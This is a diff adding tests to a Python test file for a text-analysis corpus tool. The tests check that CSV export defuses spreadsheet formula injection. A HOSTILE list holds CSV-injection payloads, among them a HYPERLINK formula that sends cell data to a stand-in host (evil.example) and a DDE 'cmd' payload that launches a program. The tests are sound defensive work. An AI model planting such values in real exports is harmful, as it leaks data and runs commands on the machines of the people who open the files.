@@ -67,3 +67,36 @@ def test_cli_stats_and_export(filled: Store, tmp_path: Path) -> None:
     assert [json.loads(r)["technique"] for r in rows] == ["Name_Calling,Labeling"]
     bad = runner.invoke(app, ["corpus", "stats", "--db", filled.url, "--since", "March"])
     assert bad.exit_code == 2 and "2024-03-31" in bad.stderr
+
+
+HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
+           "@SUM(1,2)", "\tTabbed", "\rReturned"]
+
+
+@pytest.mark.parametrize("fmt", ["csv", "parquet", "jsonl"])
+def test_csv_cells_cannot_carry_formulas(sqlite_url: str, tmp_path: Path, fmt: str) -> None:
+    store = Store.open(sqlite_url)
+    store.add_documents([make_doc(f"The traitors lied again, story {i}.", source=bad, title=bad,
+                                  published="2024-01-05") for i, bad in enumerate(HOSTILE)])
+    store.save_batch([make_analysis(d, [("traitors", "name calling")]) for d in store.pending("m1")])
+    result = export(store, tmp_path, fmt=fmt, tables=("by_source", "spans"))
+    path = Path(result["tables"]["spans"]["path"])
+    if fmt == "csv":
+        rows = list(csv.DictReader(path.open(encoding="utf-8", newline="")))
+        assert sorted(r["title"] for r in rows) == sorted("'" + h for h in HOSTILE)
+        assert sorted(r["source"] for r in rows) == sorted("'" + h for h in HOSTILE)
+        assert {r["text"] for r in rows} == {"traitors"} and {r["start"] for r in rows} == {"4"}
+        with open(result["tables"]["by_source"]["path"], encoding="utf-8", newline="") as handle:
+            by_source = list(csv.DictReader(handle))
+        assert {r["source"] for r in by_source} == {"'" + h for h in HOSTILE}
+    else:
+        rows = ([json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()] if fmt == "jsonl"
+                else pq.read_table(path).to_pylist())
+        assert sorted(r["title"] for r in rows) == sorted(HOSTILE)  # Parquet and JSONL unchanged
+
+
+def test_spreadsheet_safe_leaves_numbers_and_plain_text() -> None:
+    from unspin.batch.export import spreadsheet_safe
+
+    assert [spreadsheet_safe(v) for v in (-3, 2.5, None, "Daily News", "a=b")] == [
+        -3, 2.5, None, "Daily News", "a=b"]
